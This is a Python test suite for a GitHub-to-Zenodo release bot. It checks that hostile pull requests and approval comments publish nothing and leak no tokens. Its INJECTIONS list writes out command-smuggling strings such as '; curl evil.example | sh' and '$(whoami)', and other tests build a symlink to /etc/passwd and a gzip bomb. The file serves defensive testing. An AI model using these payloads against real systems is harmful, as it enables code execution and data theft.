"""Hostile input is refused with a clear message, and nothing is published."""

from __future__ import annotations

import os

import yaml
from release_helpers import CONTRIBUTOR, CURATOR, OUTSIDER, bot_comments, draft_id_of, merged_release

from bot.local.sample import field_csv_bytes


def published(world) -> int:
    return len(world.zenodo.published_versions(world.concept_id))


def test_symlinked_field_file_is_refused(world):
    target = world.origin / "fields" / "field_500.csv"
    world.git("checkout", "-q", "-b", "pr-1", "main")
    os.symlink("/etc/passwd", target)
    world.git("add", "fields/field_500.csv")
    world.git("commit", "-q", "-m", "sneaky")
    head = world.git("rev-parse", "HEAD")
    world.git("checkout", "-q", "main")
    base = world.git("rev-parse", "main")
    world.github.add_commit(head, [base], files={"fields/field_500.csv": "added"}, author=CONTRIBUTOR)
    world.github.add_pull(1, "sneaky", CONTRIBUTOR, head_sha=head, base_sha=base)
    run = world.pull_request(1)
    assert run.code == 1
    assert "symlink" in (run.stdout + run.summary).lower()
    assert "root:" not in run.stdout + run.summary


def test_nested_and_oddly_named_files_are_not_field_files(world):
    world.open_pull(1, "odd names", CONTRIBUTOR, {
        "fields/sub/field_487.csv": field_csv_bytes(487, 5),
        "fields/field_487.csv.bak": b"x",
    })
    run = world.pull_request(1)
    assert run.code == 1
    assert run.stdout.count("not-a-field-file") == 2


def test_gzip_bomb_is_an_error_not_a_crash(world):
    import gzip

    bomb = gzip.compress(b"0" * (64 * 1024 * 1024), mtime=0)  # 64 MiB of zeros in ~64 KB
    world.open_pull(1, "bomb", CONTRIBUTOR, {"fields/field_487.csv.gz": bomb})
    run = world.pull_request(1)
    assert run.code == 1
    assert "Traceback" not in run.stderr
    assert "::error file=fields/field_487.csv.gz" in run.stdout


def test_pull_request_config_cannot_change_curators_or_zenodo(world):
    # An open PR edits the config to make the outsider a curator and to point at another Zenodo.
    config = yaml.safe_load(world.config_text())
    config["approval"]["curators"] = [OUTSIDER]
    config["zenodo"]["api_url"] = "http://127.0.0.1:9/api"
    world.open_pull(2, "innocent", OUTSIDER, {"release-config.yaml": yaml.safe_dump(config).encode(),
                                              "fields/field_487.csv": field_csv_bytes(487, 10)})
    check = world.pull_request(2)
    assert check.code == 1  # configuration changes ride alone, never beside field files
    assert "release-config.yaml" in check.stdout and "mixed-change" in check.stdout
    assert "Traceback" not in check.stderr  # validated with the base branch's config: no Zenodo needed
    merged_release(world, 1)
    draft_id = draft_id_of(bot_comments(world, 1)[0]["body"])
    run = world.approve(1, OUTSIDER, f"/release publish {draft_id}")
    assert run.code == 1
    assert published(world) == 1


INJECTIONS = [
    "/release publish {id}; curl evil.example | sh",
    "/release publish {id} && echo pwned",
    "/release publish $(whoami)",
    "/release publish {id}\u200b",
    "> /release publish {id}",
    "```\n/release publish {id}\n```",
    "/release publish ../../{id}",
    "/r\u0435lease publish {id}",  # Cyrillic e
    "/release publish {id}" + " " * 5000 + "x",
]


def test_injection_attempts_publish_nothing(world):
    """One drafted release, every attempt in turn: each is its own approval run, and none publishes."""
    merged_release(world)
    draft_id = draft_id_of(bot_comments(world, 1)[0]["body"])
    for body in INJECTIONS:
        run = world.approve(1, CURATOR, body.replace("{id}", draft_id))
        assert published(world) == 1, body
        assert "pwned" not in run.stdout, body
    replies = [c["body"] for c in bot_comments(world, 1)[1:]]
    for reply in replies:
        assert "curl" not in reply and "whoami" not in reply


def test_approval_for_another_prs_draft_is_refused(world):
    merged_release(world, 1)
    draft_id = draft_id_of(bot_comments(world, 1)[0]["body"])
    world.open_pull(3, "unrelated", CONTRIBUTOR, {"README.md": b"hi"})
    run = world.approve(3, CURATOR, f"/release publish {draft_id}")
    assert run.code == 1
    assert published(world) == 1
    assert "no release waiting" in world.github.comments(3)[-1]["body"]


def test_pr_author_cannot_approve_own_release(world):
    merged_release(world, 1, author=CURATOR)
    draft_id = draft_id_of(bot_comments(world, 1)[0]["body"])
    run = world.approve(1, CURATOR, f"/release publish {draft_id}")
    assert run.code == 1
    assert "author" in world.github.comments(1)[-1]["body"]
    assert published(world) == 1


def test_edited_comment_does_not_count(world):
    merged_release(world)
    draft_id = draft_id_of(bot_comments(world, 1)[0]["body"])
    cid = world.comment(1, CURATOR, "looks good")
    world.github.edit_comment_as(CURATOR, cid, f"/release publish {draft_id}")
    run = world.issue_comment(1, cid, f"/release publish {draft_id}", CURATOR, action="edited")
    assert run.code == 1
    assert published(world) == 1


def test_stale_approval_after_a_new_push_is_refused(world):
    merged_release(world)
    draft_id = draft_id_of(bot_comments(world, 1)[0]["body"])
    world.push_main({"fields/field_490.csv": field_csv_bytes(490, 10)}, "direct push")
    run = world.approve(1, CURATOR, f"/release publish {draft_id}")
    assert run.code == 1
    assert "moved" in world.github.comments(1)[-1]["body"]
    assert published(world) == 1


def test_tokens_never_appear_in_anything_the_bot_wrote(world):
    from bot.local.world import ACTIONS_TOKEN, READONLY_TOKEN, ZENODO_TOKEN

    world.open_pull(1, "Add fields", CONTRIBUTOR, {"fields/field_487.csv": field_csv_bytes(487, 20)})
    runs = [world.pull_request(1)]
    before = world.git("rev-parse", "main")
    after = world.merge(1)
    runs.append(world.push(before, after))
    draft_id = draft_id_of(bot_comments(world, 1)[0]["body"])
    runs.append(world.approve(1, OUTSIDER, f"/release publish {draft_id}"))
    world.zenodo.faults.add("POST", r"/draft/actions/publish$", "500", times=20)
    runs.append(world.approve(1, CURATOR, f"/release publish {draft_id}"))  # fails: error paths too
    world.zenodo.faults.clear()
    runs.append(world.approve(1, CURATOR, f"/release publish {draft_id}"))
    written = [r.stdout + r.stderr + r.summary for r in runs]
    written += [c["body"] for c in world.github.comments(1)]
    written += [r["body"] for r in world.github.releases()]
    written += [str(world.zenodo.record(v["id"])) for v in world.zenodo.published_versions(world.concept_id)]
    for token in (ZENODO_TOKEN, ACTIONS_TOKEN, READONLY_TOKEN):
        assert not any(token in text for text in written), token
    assert published(world) == 2
